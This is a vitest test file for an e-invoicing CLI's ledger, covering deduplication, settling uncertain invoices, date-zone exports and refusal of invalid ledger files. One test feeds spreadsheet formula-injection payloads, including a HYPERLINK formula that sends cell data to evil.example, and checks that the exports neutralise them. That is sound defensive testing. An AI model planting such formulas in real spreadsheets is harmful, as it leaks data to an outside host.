import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { createHash } from 'node:crypto';
import { Workbook } from '@cj-tech-master/excelts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { records, writeNdjson } from '../bulk/helpers.js';
import { runInProcess } from '../helpers/in-process.js';
import { homeFor } from '../helpers/profile.js';
import { startTestSandbox, type TestSandbox } from '../helpers/sandbox.js';

// The ledger as the merchant's books (issue 43's list): one entry per invoice however many runs and journals met it,
// an answer never turned back by an older copy, an uncertain invoice without a reference shown and settled by its id,
// and a file that cannot be a ledger refused with exit 10, untouched.

let sandbox: TestSandbox;
beforeAll(async () => {
  sandbox = await startTestSandbox();
});
afterAll(() => sandbox.close());

interface Listed {
  id: string;
  invoiceNumber: string | null;
  status: string;
  businessReference: string | null;
  nextStep?: string;
}

async function listed(home: string): Promise<Listed[]> {
  const result = await runInProcess(['invoices', 'list', '--json'], { home });
  expect(result.code, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as Listed[];
}

async function setFaults(faults: Record<string, number>): Promise<void> {
  const response = await fetch(`${sandbox.url}/__sandbox/faults`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ faults }),
  });
  expect(response.ok).toBe(true);
}

const ledgerFolder = (home: string) => join(home, '.local', 'state', 'einvoice', 'ledger');

describe('one entry per invoice', () => {
  it('five invoices sent by two runs of two journals, both journals imported again: list 5, export 5 rows', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'five.ndjson', records(5));
    for (const journal of ['a.ndjson', 'b.ndjson']) {
      const run = await runInProcess(['create', 'single', '--file', 'five.ndjson', '--yes', '--journal', journal], {
        home,
      });
      expect(run.code, run.stderr).toBe(0);
    }
    const imported = await runInProcess(['invoices', 'import', 'a.ndjson', 'b.ndjson'], { home });
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stderr).toContain('0 new in the ledger');
    expect(await listed(home)).toHaveLength(5);
    const exported = await runInProcess(['invoices', 'export', '--format', 'csv'], { home });
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout.trimEnd().split('\r\n')).toHaveLength(1 + 5);
    // The second run met each invoice again: its history says so.
    const shown = await runInProcess(['invoices', 'show', 'REF-2', '--json'], { home });
    const [invoice] = JSON.parse(shown.stdout) as Array<{ history: Array<{ decided: string | null }> }>;
    expect(invoice?.history.map((step) => step.decided)).toEqual([
      null,
      'the service already held it when it was sent again',
    ]);
  });

  it('an invoice first uncertain, then found by a rerun, then its older journal copy imported: created', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'one.ndjson', [{ ...records(1)[0], businessReference: 'LOST-1' }]);
    const run = ['create', 'single', '--file', 'one.ndjson', '--yes', '--journal', 'j.ndjson'];
    await setFaults({ 'drop-after-commit': 1 });
    try {
      // Without retries, the run ends with its answer lost.
      expect((await runInProcess([...run, '--retries', '0'], { home })).code).toBe(6);
    } finally {
      await setFaults({});
    }
    expect((await listed(home)).map((invoice) => invoice.status)).toEqual(['uncertain']);
    copyFileSync(join(home, 'j.ndjson'), join(home, 'older.ndjson'));
    const rerun = await runInProcess(run, { home });
    expect(rerun.code, rerun.stderr).toBe(0);
    const imported = await runInProcess(['invoices', 'import', 'older.ndjson'], { home });
    expect(imported.code, imported.stderr).toBe(0);
    const [invoice] = await listed(home);
    expect(invoice).toMatchObject({ status: 'created', businessReference: 'LOST-1' });
    expect(invoice?.invoiceNumber).toMatch(/^\d+$/);
  });

  it("a run's records its ledger never got (killed before its batch was written): the rerun brings them in, once", async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'four.ndjson', records(4, 2));
    // The journal holds the four created; the ledger nothing, as after a kill -9 before the run's batch was written.
    const first = await runInProcess(['create', 'single', '--file', 'four.ndjson', '--yes', '--no-ledger'], { home });
    expect(first.code, first.stderr).toBe(0);
    for (let rerun = 1; rerun <= 2; rerun++) {
      const again = await runInProcess(['create', 'single', '--file', 'four.ndjson', '--yes', '--json'], { home });
      expect(again.code, again.stderr).toBe(0);
      expect(JSON.parse(again.stdout).summary.createdEarlier).toBe(4);
    }
    const entries = await listed(home);
    expect(entries.map((entry) => entry.status)).toEqual(['created', 'created', 'created', 'created']);
    const numbers = entries.map((entry) => entry.invoiceNumber);
    expect(new Set(numbers).size).toBe(4);
    expect(numbers).not.toContain(null);
  });

  it('a run that ended with its records in the ledger, then a run its ledger never got: the next brings those in', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'grows.ndjson', records(2));
    const run = ['create', 'single', '--file', 'grows.ndjson', '--yes'];
    expect((await runInProcess(run, { home })).code).toBe(0);
    expect(await listed(home)).toHaveLength(2);
    // Two more rows, sent by a run whose ledger batch never came (as --no-ledger leaves it, or a kill -9).
    writeNdjson(home, 'grows.ndjson', records(4));
    expect((await runInProcess([...run, '--no-ledger'], { home })).code).toBe(0);
    expect(await listed(home)).toHaveLength(2);
    const next = await runInProcess([...run, '--json'], { home });
    expect(next.code, next.stderr).toBe(0);
    expect(JSON.parse(next.stdout).summary.createdEarlier).toBe(4);
    const entries = await listed(home);
    expect(entries.map((entry) => entry.businessReference).sort()).toEqual(['REF-1', 'REF-2', 'REF-3', 'REF-4']);
  });
});

describe('lists an accountant reads', () => {
  it("--since -7d reads days back as --expiry-date +30d reads them ahead, in the merchant's time zone", async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'two.ndjson', records(2));
    const run = await runInProcess(['create', 'single', '--file', 'two.ndjson', '--yes', '--journal', 'j.ndjson'], {
      home,
    });
    expect(run.code, run.stderr).toBe(0);
    // The same run as another machine journaled it ten days ago.
    const tenDaysAgo = new Date(Date.now() - 10 * 86_400_000).toISOString();
    const journal = readFileSync(join(home, 'j.ndjson'), 'utf8')
      .replaceAll(/"at":"[^"]+"/g, `"at":"${tenDaysAgo}"`)
      .replace(/"resolveDatesAt":"[^"]+"/, `"resolveDatesAt":"${tenDaysAgo}"`);
    const elsewhere = homeFor(sandbox);
    writeFileSync(join(elsewhere, 'old.ndjson'), journal);
    expect((await runInProcess(['invoices', 'import', 'old.ndjson'], { home: elsewhere })).code).toBe(0);
    writeNdjson(
      elsewhere,
      'new.ndjson',
      records(1).map((one) => ({ ...one, businessReference: 'NEW' })),
    );
    expect((await runInProcess(['create', 'single', '--file', 'new.ndjson', '--yes'], { home: elsewhere })).code).toBe(
      0,
    );
    const env = { TZ: 'Africa/Cairo' };
    const since = async (day: string) => {
      const result = await runInProcess(['invoices', 'list', '--json', '--since', day], { home: elsewhere, env });
      expect(result.code, result.stderr).toBe(0);
      return (JSON.parse(result.stdout) as Listed[]).map((invoice) => invoice.businessReference);
    };
    expect(await since('-7d')).toEqual(['NEW']);
    expect(await since('-2w')).toHaveLength(3);
    const until = await runInProcess(['invoices', 'list', '--json', '--until', '-1w'], { home: elsewhere, env });
    expect((JSON.parse(until.stdout) as Listed[]).map((invoice) => invoice.businessReference).sort()).toEqual([
      'REF-1',
      'REF-2',
    ]);
    const wrong = await runInProcess(['invoices', 'list', '--since', '7d'], { home: elsewhere, env });
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain('-7d (seven days ago');
  });
});

describe('exports and reports no spreadsheet runs as formulas', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Pay")', '@SUM(1)', '+1+2', '-2+3'];

  it('names =HYPERLINK(...), @SUM(1), +1+2 and -2+3 in the CSV export and the report: no cell starts with =, +, - or @', async () => {
    const home = homeFor(sandbox);
    writeNdjson(
      home,
      'hostile.ndjson',
      hostile.map((name, index) => ({
        ...records(1)[0],
        businessReference: name,
        customer: { name, mobile: '+201012345678' },
        note: `Order ${index}`,
      })),
    );
    const run = await runInProcess(['create', 'single', '--file', 'hostile.ndjson', '--yes', '--report', 'r.csv'], {
      home,
    });
    expect(run.code, run.stderr).toBe(0);
    const exported = await runInProcess(['invoices', 'export', '--format', 'csv', '--output', 'all.csv'], { home });
    expect(exported.code, exported.stderr).toBe(0);
    for (const file of ['all.csv', 'r.csv']) {
      const rows = parse(readFileSync(join(home, file), 'utf8').replace(/^\uFEFF/, ''), {
        relax_column_count: true,
      }) as string[][];
      const cells = rows.flat();
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        file,
      ).toEqual([]);
      // Each name is there whole, behind the mark that keeps it text.
      for (const name of hostile) expect(cells, file).toContain(`'${name}`);
    }
    const exportedRows = parse(readFileSync(join(home, 'all.csv'), 'utf8').replace(/^\uFEFF/, ''), {
      columns: true,
    }) as Array<Record<string, string>>;
    // A mobile keeps its +; an amount is the number it is.
    expect(exportedRows[0]?.customerMobile).toBe("'+201012345678");
    expect(exportedRows[0]?.amount).toBe('101.00');
  });

  it('a workbook export has sendingDate and expiryDate as date cells; the CSV header names its zone', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'one.ndjson', records(1));
    const env = { TZ: 'Africa/Cairo' };
    expect((await runInProcess(['create', 'single', '--file', 'one.ndjson', '--yes'], { home, env })).code).toBe(0);
    const csv = await runInProcess(['invoices', 'export', '--format', 'csv'], { home, env });
    const header =
      csv.stdout
        .replace(/^\uFEFF/, '')
        .split('\r\n')[0]
        ?.split(',') ?? [];
    expect(header).toContain('sentAt (Africa/Cairo)');
    expect(header).toContain('expiryDate (Africa/Cairo)');
    expect(header).toContain('refundedAt (Africa/Cairo)');
    const [row] = parse(csv.stdout.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>;
    // An expiry of 2030-02-01 is the end of that day in Cairo, where the run counted it (UTC+2): 23:59:59 there.
    expect(row?.['expiryDate (Africa/Cairo)']).toBe('2030-02-01 23:59:59');
    expect(row?.sendingDate).toBe('2030-01-01');
    const xlsx = await runInProcess(['invoices', 'export', '--format', 'xlsx', '--output', 'all.xlsx'], { home, env });
    expect(xlsx.code, xlsx.stderr).toBe(0);
    const workbook = new Workbook();
    await workbook.xlsx.readFile(join(home, 'all.xlsx'));
    const sheet = workbook.getWorksheet(1);
    const [names, values] = (sheet?.getSheetValues().slice(1) ?? []) as unknown[][];
    const cell = (name: string) => values?.[names?.indexOf(name) ?? -1];
    expect(cell('sendingDate')).toEqual(new Date('2030-01-01T00:00:00.000Z'));
    expect(cell('expiryDate (Africa/Cairo)')).toEqual(new Date('2030-02-01T23:59:59.999Z'));
    expect(cell('amount')).toBe(101);
  });
});

describe('an uncertain invoice without a reference', () => {
  it('is shown by its id with the safe next step; --mark-created ROW and the rerun exit 0', async () => {
    const home = homeFor(sandbox);
    const sheet = 'customer.name,customer.mobile,amount,sendingDate,releaseDate,expiryDate,note\n';
    writeFileSync(join(home, 'plain.csv'), `${sheet}Amr,+201012345678,99.50,today,today,+30d,Order 1\n`);
    const run = ['create', 'single', '--file', 'plain.csv', '--yes'];
    await setFaults({ 'drop-after-commit': 1 });
    try {
      expect((await runInProcess(run, { home })).code).toBe(6);
    } finally {
      await setFaults({});
    }
    const [uncertain] = await listed(home);
    expect(uncertain).toMatchObject({ status: 'uncertain', invoiceNumber: null, businessReference: null });
    expect(uncertain?.id).toMatch(/^L\d+$/);
    expect(uncertain?.nextStep).toContain(`einvoice invoices settle ${uncertain?.id} --created`);
    expect(uncertain?.nextStep).toContain('--mark-created 2');
    const shown = await runInProcess(['invoices', 'show', uncertain?.id as string], { home });
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toContain('Next step');
    expect(shown.stdout).toContain('look it up in the merchant dashboard before sending it again');
    // Held back: a rerun would create it a second time.
    expect((await runInProcess(run, { home })).code).toBe(6);
    const before = (await sandbox.api.invoices()).length;
    const marked = await runInProcess([...run, '--mark-created', '2'], { home });
    expect(marked.code, marked.stderr).toBe(0);
    expect(marked.stderr).toContain('Marked in the journal, as you said: 1 created.');
    expect(marked.stderr).toMatch(/already existed +1 +\(1 by your word, --mark-created\)\n/);
    const rerun = await runInProcess([...run, '--json'], { home });
    expect(rerun.code, rerun.stderr).toBe(0);
    expect(rerun.stderr).toMatch(/already existed +1 +\(1 by your word, --mark-created\)\n/);
    const report = JSON.parse(rerun.stdout) as { summary: Record<string, unknown>; records: unknown[] };
    expect(report.summary).toMatchObject({ createdEarlier: 1, doneByMerchant: 1 });
    expect(report.records).toMatchObject([{ status: 'created-earlier', byMerchant: true }]);
    expect((await sandbox.api.invoices()).length).toBe(before);
    expect(await listed(home)).toMatchObject([{ id: uncertain?.id, status: 'created' }]);
    // A later word replaces it: not created after all, so this run sends it.
    const corrected = await runInProcess([...run, '--mark-not-created', '2'], { home });
    expect(corrected.code, corrected.stderr).toBe(0);
    expect(corrected.stderr).toContain('Marked in the journal, as you said: 1 not created (sent again).');
    expect((await sandbox.api.invoices()).length).toBe(before + 1);
    expect((await listed(home)).map((invoice) => invoice.status)).toEqual(['created']);
    // The service created it this time: a word that it was not is refused, naming its row.
    const contradicting = await runInProcess([...run, '--mark-not-created', '2'], { home });
    expect(contradicting.code).toBe(2);
    expect(contradicting.stderr).toContain('2: the service answered that it was done');
  });

  it('refuses a row marked both created and not created, naming it (exit 2), before anything is sent', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'x.ndjson', records(1));
    const result = await runInProcess(
      ['create', 'single', '--file', 'x.ndjson', '--yes', '--mark-created', '1', '--mark-not-created', 'row 1'],
      { home },
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Row 1: both --mark-created and --mark-not-created were given for it');
  });

  it('settles a single create left uncertain from the ledger, and a later word replaces it', async () => {
    const home = homeFor(sandbox);
    const one = [
      ...['create', 'single', '--customer-name', 'Amr', '--customer-mobile', '+201012345678', '--amount', '10'],
      ...['--sending-date', 'today', '--release-date', 'today', '--expiry-date', '+30d', '--note', 'x', '--yes'],
    ];
    await setFaults({ 'drop-after-commit': 1 });
    try {
      expect((await runInProcess(one, { home })).code).toBe(8);
    } finally {
      await setFaults({});
    }
    const [uncertain] = await listed(home);
    const settled = await runInProcess(['invoices', 'settle', uncertain?.id as string, '--created'], { home });
    expect(settled.code, settled.stderr).toBe(0);
    expect(settled.stderr).toContain(`The invoice of entry ${uncertain?.id} is recorded as`);
    expect(await listed(home)).toMatchObject([{ status: 'created' }]);
    const corrected = await runInProcess(['invoices', 'settle', uncertain?.id as string, '--not-created'], { home });
    expect(corrected.code, corrected.stderr).toBe(0);
    expect(await listed(home)).toMatchObject([{ status: 'not-created' }]);
  });
});

describe('a single refund left uncertain', () => {
  it("is settled from the ledger by its invoice number; the service's own answer is never overruled", async () => {
    const home = homeFor(sandbox);
    const { invoiceNumber, orderReferenceNumber } = await sandbox.api.createPaidInvoice();
    const refund = ['refund', invoiceNumber, '--amount', '1234.50', '--reason', 'Returned'];
    await setFaults({ 'drop-after-commit': 1 });
    try {
      expect((await runInProcess([...refund, '--order-ref', orderReferenceNumber, '--yes'], { home })).code).toBe(8);
    } finally {
      await setFaults({});
    }
    const shown = await runInProcess(['invoices', 'show', invoiceNumber, '--json'], { home });
    expect(shown.stderr).toContain('was not created from this machine');
    expect(JSON.parse(shown.stdout)).toMatchObject([{ status: 'uncertain' }]);
    const settled = await runInProcess(['invoices', 'settle', invoiceNumber, '--refunded'], { home });
    expect(settled.code, settled.stderr).toBe(0);
    expect(settled.stderr).toContain(
      `The refund of invoice ${invoiceNumber} is recorded as refunded, as the merchant said.`,
    );
    const after = await runInProcess(['invoices', 'show', invoiceNumber, '--json'], { home });
    expect(JSON.parse(after.stdout)).toMatchObject([{ status: 'refunded', decided: 'refunded, as the merchant said' }]);
    // Refunded by this machine, answered by the service: a word that it was not is refused.
    const other = await sandbox.api.createPaidInvoice();
    const made = await runInProcess(
      [
        'refund',
        other.invoiceNumber,
        '--amount',
        '1234.50',
        '--reason',
        'x',
        '--order-ref',
        other.orderReferenceNumber,
        '--yes',
      ],
      { home },
    );
    expect(made.code, made.stderr).toBe(0);
    const refused = await runInProcess(['invoices', 'settle', other.invoiceNumber, '--not-refunded'], { home });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`The service answered that the refund of invoice ${other.invoiceNumber} was made`);
  });
});

const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

describe('a file that cannot be the ledger (exit 10, the file named, left as it was)', () => {
  it('a folder where the ledger should be', async () => {
    const home = homeFor(sandbox);
    const file = join(ledgerFolder(home), 'local.sqlite');
    mkdirSync(file, { recursive: true });
    const result = await runInProcess(['invoices', 'list'], { home });
    expect(result.code).toBe(10);
    expect(result.stderr).toContain(`The ledger ${file} is a folder, not a file.`);
    expect(result.stderr).toContain('Move what stands in its place away');
    expect(result.stderr).not.toContain('Unexpected error');
  });

  it("another program's SQLite database", async () => {
    const home = homeFor(sandbox);
    mkdirSync(ledgerFolder(home), { recursive: true });
    const file = join(ledgerFolder(home), 'local.sqlite');
    const other = new DatabaseSync(file);
    other.exec('CREATE TABLE songs (title TEXT); INSERT INTO songs VALUES (1)');
    other.close();
    const before = sha256(file);
    const result = await runInProcess(['invoices', 'export'], { home });
    expect(result.code).toBe(10);
    expect(result.stderr).toContain(`The ledger ${file} is not a database einvoice made`);
    expect(sha256(file)).toBe(before);
  });

  it('a file another process holds beyond the wait', async () => {
    const home = homeFor(sandbox);
    writeNdjson(home, 'x.ndjson', records(1));
    expect((await runInProcess(['create', 'single', '--file', 'x.ndjson', '--yes'], { home })).code).toBe(0);
    const file = join(ledgerFolder(home), 'local.sqlite');
    const holder = new DatabaseSync(file);
    holder.exec('PRAGMA locking_mode = EXCLUSIVE; BEGIN EXCLUSIVE');
    try {
      const result = await runInProcess(['invoices', 'list'], { home });
      expect(result.code).toBe(10);
      expect(result.stderr).toContain(`The ledger ${file} is held by another process: einvoice waited 10 s for it.`);
    } finally {
      holder.exec('ROLLBACK');
      holder.close();
    }
  }, 60_000);
});
